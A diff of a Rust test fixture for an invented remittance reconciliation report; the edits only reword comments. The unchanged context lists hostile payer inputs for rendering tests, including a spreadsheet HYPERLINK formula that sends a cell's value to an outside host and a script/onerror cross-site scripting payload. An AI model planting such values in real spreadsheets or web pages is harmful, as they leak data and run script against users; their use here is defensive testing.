@@ -1,12 +1,12 @@
-//! An invented report that shows every case once, hostile texts included.
+//! An invented report with every case once, hostile texts included.
 //!
-//! Every name, number and text here is made up. The texts in [`HOSTILE`] are what a payer might try.
+//! Every name, number and text here is made up. The texts in [`HOSTILE`] are possible attacks of a payer.
 
 use chrono::{Days, NaiveDate};
 use reconcile::report::*;
 use remittance::{Bilingual, Money, Outcome, Reason, RemarkField, Tally, YearMonth};
 
-/// What a payer might write to break a page, a sheet or a terminal.
+/// Texts that a payer might write to break a page, a sheet or a terminal.
 pub(crate) const HOSTILE: [&str; 8] = [
     "=HYPERLINK(\"http://example.invalid/?\"&A1,\"点我\")",
     "<script>alert('公积金')</script><img src=x onerror=alert(1)>",
@@ -30,7 +30,7 @@ fn both(zh: &str, en: &str) -> Bilingual {
     Bilingual::new(zh.to_owned(), en.to_owned())
 }
 
-/// `"p|~P|_ |…"`: pieces by kind; `~` read, `_` stripped, else plain.
+/// `"p|~P|_ |…"`: pieces by kind; `~` read, `_` stripped, otherwise plain.
 fn marked(field: RemarkField, pieces: &[&str]) -> RemarkText {
     let segment = |piece: &&str| {
         let (kind, text) = match piece.chars().next() {
@@ -313,7 +313,7 @@ fn tally(count: u64, amount: i64) -> Tally {
     Tally { count, amount: fen(amount).into() }
 }
 
-/// Ninety nights with a month-end wave; the last one closes at the balance given.
+/// Ninety nights with a month-end wave; the last one closes at the given balance.
 fn nights(closing: Tally) -> Vec<NightPoint> {
     let last = day(AS_OF.0, AS_OF.1, AS_OF.2);
     let point = |back: u64| {
@@ -447,7 +447,7 @@ fn report_of(drafts: Vec<Draft<'_>>) -> Report {
     }
 }
 
-/// A believable morning, without attackers: what the picture in the README shows.
+/// A realistic morning without attackers: the picture in the README shows it.
 pub(crate) fn believable() -> Report {
     let mut report = report_of(everyday().into_iter().chain(by_rule()).collect());
     report.warnings.truncate(4);
@@ -455,7 +455,7 @@ pub(crate) fn believable() -> Report {
     report
 }
 
-/// Everything at once, attackers included.
+/// All cases at once, attackers included.
 pub(crate) fn every_case() -> Report {
     report_of(everyday().into_iter().chain(by_rule()).chain(hostile()).collect())
 }
